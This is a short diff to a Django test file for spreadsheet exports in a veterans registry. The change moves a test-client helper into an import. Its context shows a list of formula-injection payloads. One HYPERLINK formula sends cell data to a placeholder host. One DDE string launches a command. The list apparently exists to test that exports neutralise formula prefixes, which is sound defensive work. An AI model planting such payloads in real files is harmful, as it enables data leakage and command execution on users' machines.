@@ -17,12 +17,12 @@ from typing import Any
 import openpyxl
 import pytest
 from django.core.management import call_command
-from django.test import Client
 
 from centres.models import User
 from config.spreadsheets import FORMULA_PREFIXES, csv_row, xlsx_row
 from tests.conftest import api_as
 from tests.factories.veterans import id_number, veteran_make, visit_make
+from tests.veterans.test_registry_pages import client_for
 from veterans.imports import error_report_workbook, veterans_import
 from veterans.models import AuditEntry, Veteran
 
@@ -30,12 +30,6 @@ pytestmark = pytest.mark.django_db
 
 PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1",
             "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
-
-
-def client_for(user: User) -> Client:
-    client = Client()
-    client.force_login(user)
-    return client
 
 
 def _cells(content: bytes) -> list[Any]:
